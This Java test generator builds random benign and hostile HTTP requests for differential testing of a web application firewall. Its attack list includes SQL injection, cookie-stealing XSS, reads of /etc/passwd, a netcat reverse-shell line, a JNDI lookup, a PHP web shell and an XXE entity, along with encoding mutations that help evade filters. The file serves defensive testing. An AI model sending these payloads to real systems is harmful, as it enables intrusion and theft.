package dev.palisade.compiler.generators;

import dev.palisade.engine.waf.WafRequest;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;

/**
 * Random HTTP requests for WAF differential tests: attack and benign fragments, mutated (case,
 * percent-encoding, double encoding, comments, padding), placed in the path, query arguments,
 * headers, cookies and bodies (URL-encoded, JSON, plain), with ordinary and odd methods. Random
 * bytes alone almost never reach a rule's interesting branches; fragments from real attack classes
 * do (SQLi, XSS, path traversal, command injection, Java, PHP, protocol abuse).
 */
public final class WafRequests {
    private WafRequests() {}

    static final List<String> ATTACKS = List.of(
            "' or 1=1--", "1 UNION SELECT username, password FROM users", "admin'/*", "1; DROP TABLE users",
            "<script>alert(1)</script>", "\"><img src=x onerror=alert(document.cookie)>", "javascript:alert(1)",
            "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/shadow", ";cat /etc/passwd", "| nc -e /bin/sh 10.0.0.1 4444",
            "$(whoami)", "`id`", "java.lang.Runtime", "${jndi:ldap://x.example/a}", "<?php system($_GET['c']); ?>",
            "php://filter/resource=index.php", "http://169.254.169.254/latest/meta-data/", "%00", "\r\nSet-Cookie: a=b",
            "{{7*7}}", "<!ENTITY xxe SYSTEM \"file:///etc/passwd\">", "sleep(5)#", "benchmark(1000000,md5(1))",
            "eval(atob('YWxlcnQoMSk='))", "../", "%252e%252e%252f", "Content-Type: text/html");

    static final List<String> BENIGN = List.of(
            "hello", "search", "42", "John Smith", "name@example.com", "2024-05-01", "en-US", "red,green,blue",
            "The quick brown fox", "it's fine", "page", "true", "a-b_c.d", "100%", "café", "x", "", "Mozilla/5.0");

    private static final List<String> NAMES = List.of("q", "id", "search", "user", "page", "redirect", "file",
            "cmd", "lang", "sort", "password", "callback", "x");

    private static final List<String> METHODS = List.of("GET", "GET", "GET", "POST", "POST", "HEAD", "PUT", "DELETE",
            "OPTIONS", "PATCH", "PROPFIND", "TRACE", "CONNECT", "FOO", "get", "GET ");

    /** A value: a fragment or random bytes, mutated; only benign words unless {@code hostile}. */
    public static Arbitrary<String> values(boolean hostile) {
        Arbitrary<String> fragment = !hostile ? Arbitraries.of(BENIGN) : Arbitraries.frequencyOf(
                net.jqwik.api.Tuple.of(4, Arbitraries.of(ATTACKS)),
                net.jqwik.api.Tuple.of(5, Arbitraries.of(BENIGN)),
                net.jqwik.api.Tuple.of(1, Arbitraries.strings().withCharRange('\0', '\u00ff').ofMaxLength(12)));
        return Combinators.combine(fragment, Arbitraries.of(Mutation.values()), Arbitraries.of(BENIGN))
                .as((text, mutation, padding) -> mutation.apply(text, padding));
    }

    enum Mutation {
        NONE, UPPER, LOWER, PERCENT, DOUBLE_PERCENT, COMMENTS, PADDED, PLUS_SPACES;

        String apply(String text, String padding) {
            return switch (this) {
                case NONE -> text;
                case UPPER -> text.toUpperCase(Locale.ROOT);
                case LOWER -> text.toLowerCase(Locale.ROOT);
                case PERCENT -> percent(text, false);
                case DOUBLE_PERCENT -> percent(percent(text, false), false);
                case COMMENTS -> text.replace(" ", "/**/");
                case PADDED -> padding + " " + text + " " + padding;
                case PLUS_SPACES -> text.replace(" ", "+");
            };
        }
    }

    /** Percent-encodes every byte but letters and digits ({@code all}: every byte). */
    static String percent(String text, boolean all) {
        StringBuilder out = new StringBuilder();
        for (char c : text.toCharArray()) {
            if (!all && (Character.isLetterOrDigit(c) && c < 0x80)) {
                out.append(c);
            } else {
                out.append('%').append(String.format("%02X", c & 0xff));
            }
        }
        return out.toString();
    }

    /** Query arguments and form bodies: {@code name=value&…}, values encoded so they arrive as generated. */
    static Arbitrary<String> form(int maxArguments, boolean hostile) {
        Arbitrary<String> argument = Combinators.combine(Arbitraries.of(NAMES), values(hostile), Arbitraries.of(true, false))
                .as((name, value, encode) -> name + "=" + (encode ? percent(value, false) : value.replace("&", "%26")));
        return argument.list().ofMaxSize(maxArguments).map(list -> String.join("&", list));
    }

    static Arbitrary<String> paths(boolean hostile) {
        Arbitrary<String> segment = Arbitraries.frequencyOf(
                net.jqwik.api.Tuple.of(6, Arbitraries.of("api", "v1", "index.php", "products", "login", "static",
                        "app.js", "admin", ".git", "wp-admin", "cgi-bin", "x.bak")),
                net.jqwik.api.Tuple.of(2, values(hostile).map(v -> percent(v, false))),
                net.jqwik.api.Tuple.of(hostile ? 1 : 0, Arbitraries.of(".", "..", "", "%2e%2e", "..;")));
        return segment.list().ofMinSize(0).ofMaxSize(4).map(list -> "/" + String.join("/", list));
    }

    static Arbitrary<List<WafRequest.Header>> headers(boolean hostile) {
        Arbitrary<List<WafRequest.Header>> browser = Arbitraries.of(true, false).map(on -> on ? List.of(
                new WafRequest.Header("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"),
                new WafRequest.Header("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
                new WafRequest.Header("Accept-Language", "en-US,en;q=0.5"),
                new WafRequest.Header("Accept-Encoding", "gzip, deflate, br")) : List.of());
        Arbitrary<WafRequest.Header> odd = Combinators.combine(
                Arbitraries.of("Referer", "X-Forwarded-For", "User-Agent", "X-Api-Version", "Range", "Accept",
                        "Cookie", "X-Custom", "Origin"),
                values(hostile)).as((name, value) -> new WafRequest.Header(name, name.equals("Cookie") ? "session=" + value : value));
        Arbitrary<List<WafRequest.Header>> cookies = form(2, hostile).map(
                text -> text.isEmpty() ? List.of() : List.of(new WafRequest.Header("Cookie", text.replace('&', ';'))));
        return Combinators.combine(browser, odd.list().ofMaxSize(2), cookies).as((a, b, c) -> {
            List<WafRequest.Header> all = new ArrayList<>();
            all.add(new WafRequest.Header("Host", "www.example.com"));
            all.addAll(a);
            all.addAll(b);
            all.addAll(c);
            return all;
        });
    }

    /** Content type and body text; empty type for no body. */
    static Arbitrary<String[]> bodies(boolean hostile) {
        return Arbitraries.oneOf(
                Arbitraries.just(new String[] {"", ""}),
                form(5, hostile).map(body -> new String[] {"application/x-www-form-urlencoded", body}),
                values(hostile).list().ofMaxSize(3).map(list -> {
                    StringBuilder json = new StringBuilder("{");
                    for (int i = 0; i < list.size(); i++) {
                        json.append(i == 0 ? "" : ",").append("\"k").append(i).append("\":\"")
                                .append(list.get(i).replace("\\", "\\\\").replace("\"", "\\\"")).append('"');
                    }
                    return new String[] {"application/json", json.append('}').toString()};
                }),
                values(hostile).map(body -> new String[] {"text/plain", body}));
    }

    /**
     * Half benign (benign words, GET/POST/HEAD, a body only with POST), half hostile (attack
     * fragments and random bytes, any method, dot segments, bodies with any method).
     */
    public static Arbitrary<WafRequest> requests() {
        return Arbitraries.oneOf(requests(false), requests(true));
    }

    public static Arbitrary<WafRequest> requests(boolean hostile) {
        Arbitrary<String> methods = hostile ? Arbitraries.of(METHODS) : Arbitraries.of("GET", "GET", "POST", "HEAD");
        return Combinators.combine(methods, paths(hostile), form(4, hostile), headers(hostile), bodies(hostile))
                .as((method, path, query, headers, body) -> {
                    List<WafRequest.Header> all = new ArrayList<>(headers);
                    if (!hostile && !method.equals("POST")) {
                        body = new String[] {"", ""};
                    }
                    if (!body[0].isEmpty()) {
                        all.add(new WafRequest.Header("Content-Type", body[0]));
                        all.add(new WafRequest.Header("Content-Length", Integer.toString(body[1].length())));
                    }
                    String target = query.isEmpty() ? path : path + "?" + query;
                    return WafRequest.of(method, target, all, body[1].getBytes(StandardCharsets.ISO_8859_1));
                });
    }
}
